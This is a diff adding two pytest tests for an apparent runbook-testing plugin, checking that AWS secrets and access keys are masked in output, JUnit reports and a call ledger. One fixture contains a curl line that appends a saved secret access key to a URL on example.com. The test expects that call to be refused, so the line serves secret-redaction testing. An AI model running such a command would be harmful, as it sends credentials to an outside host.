@@ -182,3 +182,78 @@ def test_a_value_in_the_place_of_a_name_is_refused(room: Room) -> None:
         "runbooks_secrets: `pass=word` is the name of no variable\n"
         "  write names or globs of names, not values, as `DB_PASSWORD` or `*_TOKEN`"
     ) in run.out
+
+
+def test_secrets_that_the_api_hands_out_are_in_no_report(room: Room) -> None:
+    ini(room)
+    room.book(
+        """
+        # Book
+
+        ```python
+        import boto3
+        manager, iam = boto3.client("secretsmanager"), boto3.client("iam")
+        name = manager.create_secret(Name="prod/orders", SecretString="-".join(["correct", "horse", "battery"]))["Name"]
+        print("passed with", manager.get_secret_value(SecretId=name)["SecretString"])
+        ```
+
+        ```python
+        iam.create_user(UserName="deploy-user-1")
+        key = iam.create_access_key(UserName="deploy-user-1")["AccessKey"]
+        open("key", "w").write(key["SecretAccessKey"])
+        print("key", key["UserName"], key["SecretAccessKey"])
+        ```
+
+        ```bash
+        curl --silent "http://example.com/code/$(cat key)"
+        ```
+
+        Expected output:
+
+        ```
+        nothing
+        ```
+        """  # noqa: E501 - a line of code
+    )
+    arguments = ("-rA", "--junit-xml=report.xml", "--runbooks-ledger=calls.jsonl")
+    run = room.run(*arguments)
+    assert [*run.outcomes.values()] == ["passed", "passed", "failed"]
+    assert "passed with ***\n" in run.out
+    assert "key deploy-user-1 ***\n" in run.out
+    assert "http://example.com/code/***" in run.out
+    rows = [json.loads(one) for one in (room.path / "calls.jsonl").read_text().splitlines()]
+    assert rows[-1]["refused"] == "GET http://example.com/code/***"
+    files = [(room.path / one).read_text() for one in ("report.xml", "calls.jsonl")]
+    assert [without_pieces(text) for text in (run.out, run.err, *files)] == [True] * 4
+
+
+def test_what_the_api_hands_out_as_a_secret_is_none_of_the_next_procedure(room: Room) -> None:
+    ini(room)
+    room.book(
+        """
+        ---
+        runbook:
+          procedures: 2
+        ---
+        # Book
+
+        ## First
+
+        ```python
+        import boto3
+        word = "-".join(["correct", "horse", "battery"])
+        boto3.client("ssm").put_parameter(Name="a", Type="SecureString", Value=word)
+        print("first", word)
+        ```
+
+        ## Second
+
+        ```bash
+        echo "second correct-horse-battery"
+        ```
+        """
+    )
+    run = room.run("-rP")
+    assert run.code == 0, run.out
+    assert "first ***\n" in run.out
+    assert "second correct-horse-battery\n" in run.out
